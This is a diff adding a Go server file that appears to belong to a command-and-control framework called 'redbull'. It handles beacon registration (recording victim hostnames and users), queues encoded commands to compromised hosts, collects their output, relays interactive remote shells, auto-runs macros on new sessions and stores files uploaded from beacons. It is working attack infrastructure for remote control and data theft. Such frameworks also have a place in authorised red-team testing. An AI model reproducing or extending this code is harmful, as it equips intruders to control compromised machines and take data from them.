@@ -0,0 +1,178 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	config "redbull"
+	"redbull/internal/rbevent"
+	"redbull/internal/rbhttp"
+	"redbull/internal/rbtransport"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+)
+
+var errInvalidFilename = errors.New("invalid filename")
+
+// beaconHandler implements the server side of every beacon transport.
+type beaconHandler struct{}
+
+func (h *beaconHandler) Register(req rbhttp.RegisterRequest, remoteAddr string) (rbhttp.RegisterResponse, error) {
+	sess, created := sessions.Register(req.SessionID, req.Host, req.SleepTime, remoteAddr)
+	if created {
+		zap.L().Info("New session", zap.String("session", sess.ID), zap.String("hostname", sess.Host.Hostname), zap.String("user", sess.Host.Username))
+		events.Publish(rbevent.NewEvent(rbevent.SessionNew, sess.ID, map[string]any{
+			"hostname":   sess.Host.Hostname,
+			"user":       sess.Host.Username,
+			"remoteAddr": remoteAddr,
+		}))
+		if created, ok := sessions.Get(sess.ID); ok {
+			autoRunMacros(created)
+		}
+	}
+	return rbhttp.RegisterResponse{SessionID: sess.ID}, nil
+}
+
+func (h *beaconHandler) CheckIn(sessionID string, sleepTime int, remoteAddr string) (*rbhttp.CheckInResponse, error) {
+	sess, ok := sessions.CheckIn(sessionID, sleepTime, remoteAddr)
+	if !ok {
+		return nil, rbtransport.ErrUnknownSession
+	}
+	checkInsTotal.Inc(sess.ID)
+
+	tasks := sess.Tasks.Next(config.CHECKIN_BATCH_SIZE, config.CHECKIN_BATCH_BYTES)
+	cancels := sess.Tasks.TakeCancels()
+	zap.L().Debug("queue", zap.String("session", sess.ID), zap.Int("sent", len(tasks)), zap.Int("queue", sess.Tasks.Len()), zap.Int("cancels", len(cancels)))
+	if len(tasks) == 0 && len(cancels) == 0 {
+		return nil, nil
+	}
+
+	resp := &rbhttp.CheckInResponse{Tasks: make([]rbhttp.TaskMessage, 0, len(tasks)), Cancel: cancels}
+	for _, task := range tasks {
+		resp.Tasks = append(resp.Tasks, rbhttp.TaskMessage{
+			TaskID:     task.ID,
+			Command:    rbhttp.EncodeCommand(task.Command),
+			Concurrent: task.Concurrent,
+		})
+		bytesTotal.Add(float64(len(task.Command)), "task", "sent")
+	}
+	return resp, nil
+}
+
+func (h *beaconHandler) Results(results []rbhttp.HttpBody) error {
+	for _, result := range results {
+		response := rbhttp.NewBeaconResponse(result.SessionID, result.Command, result.Stdout, result.Stderr, result.CurrentDirectory)
+		response.TaskID = result.TaskID
+		response.Failed = result.Failed
+		setParsed(response)
+		bytesTotal.Add(float64(len(result.Stdout)+len(result.Stderr)), "result", "received")
+		if sess, ok := sessions.Get(result.SessionID); ok {
+			if task, ok := sess.Tasks.Complete(result.TaskID); ok {
+				response.Operator = task.Operator
+				observeTask(task, response.Time)
+			}
+		}
+
+		// Beacons replay results they could not confirm, so the same task can arrive twice
+		if !responses.Append(*response) {
+			zap.L().Debug("Duplicate result", zap.String("session", result.SessionID), zap.String("task", result.TaskID))
+			continue
+		}
+		indexResponse(*response)
+		publishTaskResult(*response)
+		macroStepDone(response.SessionID, response.TaskID, response.Failed)
+		browser.Result(response.SessionID, response.TaskID, response.Command, response.Stdout, response.Stderr)
+		if response.Failed {
+			ptys.OpenFailed(response.TaskID, response.Stderr)
+		}
+	}
+	return nil
+}
+
+// publishTaskResult announces a result as completed, or failed if the beacon
+// reported that its command failed.
+func publishTaskResult(response rbhttp.BeaconResponse) {
+	eventType, result := rbevent.TaskCompleted, "completed"
+	if response.Failed {
+		eventType, result = rbevent.TaskFailed, "failed"
+	}
+	tasksTotal.Inc(result)
+	events.Publish(rbevent.NewEvent(eventType, response.SessionID, map[string]any{
+		"task":     response.TaskID,
+		"command":  response.Command,
+		"operator": response.Operator,
+	}))
+}
+
+func (h *beaconHandler) ExchangePty(sessionID string, output []rbhttp.PtyOutput) ([]rbhttp.PtyInput, error) {
+	if _, ok := sessions.Get(sessionID); !ok {
+		return nil, rbtransport.ErrUnknownSession
+	}
+	for _, out := range output {
+		bytesTotal.Add(float64(len(out.Data)), "pty", "received")
+	}
+	input := ptys.Exchange(sessionID, output)
+	for _, in := range input {
+		bytesTotal.Add(float64(len(in.Data)), "pty", "sent")
+	}
+	return input, nil
+}
+
+func (h *beaconHandler) ReceiveFile(sessionID string, body io.Reader) (string, error) {
+	filename := uuid.New().String()
+	filePath := filepath.Join(fileStoragePath, filename)
+	destFile, err := os.Create(filePath)
+	if err != nil {
+		return "", fmt.Errorf("failed to create file: %w", err)
+	}
+	defer destFile.Close()
+
+	// Stream directly from the transport to disk
+	written, err := io.Copy(destFile, body)
+	bytesTotal.Add(float64(written), "file", "received")
+	if err != nil {
+		// Clean up partial file on error
+		os.Remove(filePath)
+		return "", fmt.Errorf("failed to write file: %w", err)
+	}
+
+	if err := indexFile(filename, sessionID); err != nil {
+		zap.L().Error("ReceiveFile - index file", zap.Error(err), zap.String("file", filename))
+	}
+	if err := catalogArchive(filename); err != nil {
+		zap.L().Error("ReceiveFile - catalog archive", zap.Error(err), zap.String("file", filename))
+	}
+
+	events.Publish(rbevent.NewEvent(rbevent.FileReceived, sessionID, map[string]any{
+		"filename": filename,
+		"path":     filePath,
+	}))
+	responses.Append(*rbhttp.NewBeaconResponse(sessionID, "saved file to disk", fmt.Sprintf("saved file to disk: %s", filePath), "", uploadStoragePath))
+	return filename, nil
+}
+
+func (h *beaconHandler) ServeFile(name string) (io.ReadCloser, int64, error) {
+	if filepath.Base(name) != name {
+		return nil, 0, errInvalidFilename
+	}
+
+	// Serve files from uploads directory (where UI uploads go)
+	filePath := filepath.Join(uploadStoragePath, name)
+	fileInfo, err := os.Stat(filePath)
+	if err != nil {
+		if os.IsNotExist(err) {
+			return nil, 0, rbtransport.ErrNotFound
+		}
+		return nil, 0, fmt.Errorf("failed to access file: %w", err)
+	}
+
+	file, err := os.Open(filePath)
+	if err != nil {
+		return nil, 0, fmt.Errorf("failed to open file: %w", err)
+	}
+	bytesTotal.Add(float64(fileInfo.Size()), "file", "sent")
+	return file, fileInfo.Size(), nil
+}